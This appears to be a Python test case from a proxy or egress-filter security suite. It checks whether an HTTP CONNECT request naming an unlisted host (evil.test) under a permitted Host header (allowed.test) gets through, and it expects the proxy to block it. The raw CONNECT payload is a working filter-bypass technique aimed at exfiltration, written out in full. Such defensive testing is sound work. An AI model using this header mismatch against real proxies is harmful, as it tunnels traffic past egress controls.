"""CONNECT to an unlisted place under a Host that is permitted.

A CONNECT request has an authority and a field Host. A filter that reads Host, as it does for
other requests, permits a tunnel to wherever the authority says.

Not covered: user and password for the proxy, which change nothing.
"""

ATTACK = {
    "title": "CONNECT to an unlisted host under a permitted Host",
    "group": "http",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-436", "R065", "RFC 9112 section 3.2.3"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66"}, {"what": "question", "name": "evil.test"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["http-proxy"], "where": {"name": "evil.test"}}],
}


def attempt(kit):
    connect = "CONNECT evil.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n"
    inner = kit.get("/", "allowed.test")
    kit.talk("allowed.test", 80, [connect, inner], entry="http-proxy", tunnel=False)
